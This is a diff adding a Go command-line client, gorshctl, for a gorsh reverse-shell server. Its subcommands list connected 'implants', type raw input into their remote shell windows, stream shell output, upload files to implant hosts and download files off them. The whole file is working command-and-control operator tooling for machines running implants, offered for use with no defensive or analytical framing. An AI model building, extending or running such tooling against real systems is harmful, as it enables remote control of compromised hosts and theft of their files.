@@ -0,0 +1,201 @@
+// Command gorshctl drives a gorsh-server instance over its gRPC API
+// (rpcapi) instead of shelling out through tmux, for operators who want to
+// script session management from outside the box.
+package main
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"os"
+	"sort"
+	"time"
+
+	"github.com/clayne/gorsh/rpcapi"
+	flags "github.com/jessevdk/go-flags"
+	"google.golang.org/grpc"
+	"google.golang.org/grpc/credentials/insecure"
+	"google.golang.org/grpc/metadata"
+)
+
+var opts struct {
+	Server  string        `short:"s" long:"server" description:"gorsh-server gRPC address, e.g. 127.0.0.1:8443" required:"true"`
+	Auth    string        `long:"auth" description:"Bearer token, if the server was started with --web-auth"`
+	Timeout time.Duration `long:"timeout" description:"Per-call deadline (not applied to tail)" default:"10s"`
+}
+
+type sessionsCmd struct{}
+
+type killCmd struct {
+	Args struct {
+		Hostname string `positional-arg-name:"hostname"`
+		Window   string `positional-arg-name:"window"`
+	} `positional-args:"yes" required:"yes"`
+}
+
+type inputCmd struct {
+	Args struct {
+		Hostname string `positional-arg-name:"hostname"`
+		Window   string `positional-arg-name:"window"`
+		Data     string `positional-arg-name:"data"`
+	} `positional-args:"yes" required:"yes"`
+}
+
+type uploadCmd struct {
+	Args struct {
+		Hostname string `positional-arg-name:"hostname"`
+		Local    string `positional-arg-name:"local"`
+		Remote   string `positional-arg-name:"remote"`
+	} `positional-args:"yes" required:"yes"`
+}
+
+type downloadCmd struct {
+	Args struct {
+		Hostname string `positional-arg-name:"hostname"`
+		Remote   string `positional-arg-name:"remote"`
+		Local    string `positional-arg-name:"local"`
+	} `positional-args:"yes" required:"yes"`
+}
+
+type tailCmd struct {
+	Args struct {
+		Hostname string `positional-arg-name:"hostname"`
+		Window   string `positional-arg-name:"window"`
+	} `positional-args:"yes" required:"yes"`
+}
+
+func (c *sessionsCmd) Execute(_ []string) error {
+	client, ctx, cancel, err := dial(opts.Timeout)
+	if err != nil {
+		return err
+	}
+	defer cancel()
+
+	resp, err := client.ListSessions(ctx, &rpcapi.ListSessionsRequest{})
+	if err != nil {
+		return err
+	}
+
+	sort.Slice(resp.Sessions, func(i, j int) bool { return resp.Sessions[i].Hostname < resp.Sessions[j].Hostname })
+	for _, s := range resp.Sessions {
+		fmt.Printf("%s %v\n", s.Hostname, s.Windows)
+	}
+	return nil
+}
+
+func (c *killCmd) Execute(_ []string) error {
+	client, ctx, cancel, err := dial(opts.Timeout)
+	if err != nil {
+		return err
+	}
+	defer cancel()
+
+	_, err = client.KillWindow(ctx, &rpcapi.KillWindowRequest{Hostname: c.Args.Hostname, Window: c.Args.Window})
+	return err
+}
+
+func (c *inputCmd) Execute(_ []string) error {
+	client, ctx, cancel, err := dial(opts.Timeout)
+	if err != nil {
+		return err
+	}
+	defer cancel()
+
+	_, err = client.SendInput(ctx, &rpcapi.SendInputRequest{Hostname: c.Args.Hostname, Window: c.Args.Window, Data: []byte(c.Args.Data)})
+	return err
+}
+
+func (c *uploadCmd) Execute(_ []string) error {
+	data, err := os.ReadFile(c.Args.Local)
+	if err != nil {
+		return fmt.Errorf("read %s: %w", c.Args.Local, err)
+	}
+
+	client, ctx, cancel, err := dial(opts.Timeout)
+	if err != nil {
+		return err
+	}
+	defer cancel()
+
+	_, err = client.Upload(ctx, &rpcapi.UploadRequest{Hostname: c.Args.Hostname, Remote: c.Args.Remote, Data: data})
+	return err
+}
+
+func (c *downloadCmd) Execute(_ []string) error {
+	client, ctx, cancel, err := dial(opts.Timeout)
+	if err != nil {
+		return err
+	}
+	defer cancel()
+
+	resp, err := client.Download(ctx, &rpcapi.DownloadRequest{Hostname: c.Args.Hostname, Remote: c.Args.Remote})
+	if err != nil {
+		return err
+	}
+	return os.WriteFile(c.Args.Local, resp.Data, 0600)
+}
+
+func (c *tailCmd) Execute(_ []string) error {
+	client, ctx, cancel, err := dial(0)
+	if err != nil {
+		return err
+	}
+	defer cancel()
+
+	stream, err := client.Tail(ctx, &rpcapi.TailRequest{Hostname: c.Args.Hostname, Window: c.Args.Window})
+	if err != nil {
+		return err
+	}
+
+	for {
+		resp, err := stream.Recv()
+		if err == io.EOF {
+			return nil
+		}
+		if err != nil {
+			return err
+		}
+		os.Stdout.Write(resp.Data)
+	}
+}
+
+// dial opens a connection to opts.Server, attaches opts.Auth as bearer
+// metadata when set, and returns a context for one call, bound to timeout
+// when timeout is non-zero.
+func dial(timeout time.Duration) (*rpcapi.Client, context.Context, context.CancelFunc, error) {
+	cc, err := grpc.Dial(opts.Server, grpc.WithTransportCredentials(insecure.NewCredentials()))
+	if err != nil {
+		return nil, nil, nil, fmt.Errorf("dial %s: %w", opts.Server, err)
+	}
+
+	var ctx context.Context
+	var cancel context.CancelFunc
+	if timeout > 0 {
+		ctx, cancel = context.WithTimeout(context.Background(), timeout)
+	} else {
+		ctx, cancel = context.WithCancel(context.Background())
+	}
+	if opts.Auth != "" {
+		ctx = metadata.AppendToOutgoingContext(ctx, "authorization", "Bearer "+opts.Auth)
+	}
+
+	return rpcapi.NewClient(cc), ctx, cancel, nil
+}
+
+func main() {
+	parser := flags.NewParser(&opts, flags.Default)
+	parser.AddCommand("sessions", "List connected implants", "Print every hostname currently connected along with its tmux windows.", &sessionsCmd{})
+	parser.AddCommand("kill", "Kill a tmux window", "Tear down one window of an implant's session.", &killCmd{})
+	parser.AddCommand("input", "Send input to a window", "Write raw bytes into a tmux window's pane as if typed.", &inputCmd{})
+	parser.AddCommand("upload", "Upload a file to an implant", "Push a local file to a path on the implant host.", &uploadCmd{})
+	parser.AddCommand("download", "Download a file from an implant", "Pull a remote path off the implant host to a local file.", &downloadCmd{})
+	parser.AddCommand("tail", "Stream a window's pane output", "Print a tmux window's output live until interrupted; requires --web on the server.", &tailCmd{})
+
+	if _, err := parser.Parse(); err != nil {
+		if fe, ok := err.(*flags.Error); ok && fe.Type == flags.ErrHelp {
+			os.Exit(0)
+		}
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(1)
+	}
+}